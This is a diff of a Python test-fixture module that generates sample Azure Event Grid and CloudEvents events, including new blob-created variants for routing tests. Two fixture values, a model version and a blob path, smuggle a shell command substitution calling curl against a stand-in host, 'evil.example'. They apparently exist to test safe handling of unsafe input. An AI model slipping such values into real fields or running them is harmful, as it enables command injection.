@@ -7,21 +7,20 @@ import re
 import uuid
 from collections.abc import Mapping
 from typing import Any, Final
+from urllib.parse import quote, unquote
 
-from handlers import EVENT_TYPES
+from handlers import EVENT_TYPES, event_type
 from shared.events.runs import MONITOR_BREACH_TAG
 from tools.events.documents import Assignment, Document, Schema, assigned, in_schema
 
-WORKSPACE: Final = (
-    "/subscriptions/00000000-0000-0000-0000-000000000000/resourceGroups/sample-group"
-    "/providers/Microsoft.MachineLearningServices/workspaces/sample-workspace"
-)
 SAMPLE_NAMES: Final = tuple(EVENT_TYPES)
 """The event types, as routes.yaml names them."""
 
 _TIME: Final = "2026-11-20T10:00:00.0000000Z"
 
 
+_BLOB_CREATED: Final = "Microsoft.Storage.BlobCreated"
+_CONTAINER: Final = "training-data"
 _MONITOR_RUN: Final = "sample_monitor_run"
 
 
@@ -38,6 +37,12 @@ def _breach(signal: str, tags: Mapping[str, str], properties: Mapping[str, str])
         "runProperties": {"stepType": "SparkStep", **properties},
         "runStatus": "Completed",
     }
+
+
+def _blob(api: str, path: str, size: int, host: str = "blob", **others: Any) -> dict[str, Any]:
+    """Return what differs in the data of an event about a blob in the container ``training-data``."""
+    url = f"https://samplestorage.{host}.core.windows.net/{_CONTAINER}/{quote(path)}"
+    return {"api": api, "contentLength": size, "url": url, **others}
 
 
 # By file name: the event type, and the differences from the sample event of that type.
@@ -82,6 +87,18 @@ _VARIANTS: Final[Mapping[str, tuple[str, dict[str, Any]]]] = {
     "run-status-changed-running": ("RunStatusChanged", {"runStatus": "Running"}),
     "model-registered-experiment": ("ModelRegistered", {"ModelTags": {"stage": "experiment"}}),
     "model-registered-unsafe-version": ("ModelRegistered", {"ModelVersion": "21$(curl evil.example)"}),
+    "blob-created-data-lake": (
+        _BLOB_CREATED,
+        _blob("FlushWithClose", "raw data/Größe 5/teil 1.parquet", 1_048_576, host="dfs", contentOffset=1_048_576),
+    ),
+    "blob-created-data-lake-open": (
+        _BLOB_CREATED,
+        _blob("CreateFile", "raw data/Größe 5/teil 1.parquet", 0, host="dfs", contentOffset=0),
+    ),
+    "blob-created-directory": (_BLOB_CREATED, _blob("PutBlob", "landing/2026-11-21", 0)),
+    "blob-created-success": (_BLOB_CREATED, _blob("PutBlob", "landing/2026-11-20/_SUCCESS", 0)),
+    "blob-created-unsafe-path": (_BLOB_CREATED, _blob("PutBlob", "landing/$(curl evil.example).csv", 17)),
+    "orders-landed.cloud": ("com.example.orders.landed", {"region": "west", "orders": 1200}),
     "dataset-drift-detected.cloud": ("DatasetDriftDetected", {"DataDriftName": "another-monitor"}),
     "dataset-drift-detected-again": ("DatasetDriftDetected", {}),
     "dataset-drift-detected-small": ("DatasetDriftDetected", {"DriftCoefficient": 0.117}),
@@ -91,14 +108,15 @@ _VARIANTS: Final[Mapping[str, tuple[str, dict[str, Any]]]] = {
 def sample_event(name: str, number: int = 1) -> Document:
     """Return one event in the Event Grid schema.
 
-    :param name: the event type as routes.yaml names it, for example ``RunCompleted``.
+    :param name: the event type as routes.yaml names it, for example ``RunCompleted`` or ``com.example.orders.landed``.
     :param number: a number that identifies the occurrence; each number is a different occurrence.
     :raises KeyError: there is no such event type.
     """
-    subject, data = EVENT_TYPES[name].sample(number)
+    declared = event_type(name)
+    subject, data = declared.sample(number)
     return {
-        "topic": WORKSPACE,
-        "eventType": EVENT_TYPES[name].type,
+        "topic": declared.sample_source,
+        "eventType": declared.type,
         "subject": subject,
         "eventTime": _TIME,
         "id": f"00000000-0000-0000-0000-{number:012x}",
@@ -121,20 +139,25 @@ def named_sample(name: str, number: int = 1) -> Document:
 def sample_files() -> dict[str, Document]:
     """Return the events that are stored as files, by file name without ``.json``, sorted by event type.
 
-    There is one event of each type in each schema (``*.cloud`` are CloudEvents), and variants that routes.yaml handles
-    differently. All are different occurrences, in the order in which to send them.
+    There is one event of each type in each schema (``*.cloud`` are CloudEvents), variants that the app or routes.yaml
+    handles differently, and an event of no service. All are different occurrences, in the order in which to send them.
     """
-    plain = [(f"{_kebab_case(name)}{suffix}", name) for name in EVENT_TYPES for suffix in ("", ".cloud")]
+    plain = [(f"{kebab_case(name)}{suffix}", name) for name in EVENT_TYPES for suffix in ("", ".cloud")]
     files = {**{file: (name, {}) for file, name in plain}, **_VARIANTS}
-    ordered = sorted(files, key=lambda file: (SAMPLE_NAMES.index(files[file][0]), file))
+    types = [*SAMPLE_NAMES, *(name for name, _ in files.values())]
+    ordered = sorted(files, key=lambda file: (types.index(files[file][0]), file))
     return {file: _file(file, number, *files[file]) for number, file in enumerate(ordered, 1)}
 
 
 def _file(file: str, number: int, name: str, changes: Mapping[str, Any]) -> Document:
     event = assigned(sample_event(name, number), [Assignment(("data", key), value) for key, value in changes.items()])
+    if "url" in changes:
+        path = unquote(changes["url"].partition(f"/{_CONTAINER}/")[2])
+        event["subject"] = f"/blobServices/default/containers/{_CONTAINER}/blobs/{path}"
     event["id"] = str(uuid.uuid5(uuid.NAMESPACE_URL, file))
     return in_schema(event, Schema.CLOUD if file.endswith(".cloud") else Schema.EVENT_GRID)
 
 
-def _kebab_case(name: str) -> str:
-    return re.sub(r"(?<!^)(?=[A-Z])", "-", name).lower()
+def kebab_case(name: str) -> str:
+    """Return the last part of a type's name: ``blob-created`` for ``Microsoft.Storage.BlobCreated``."""
+    return re.sub(r"(?<!^)(?=[A-Z])", "-", name.rpartition(".")[2]).lower()
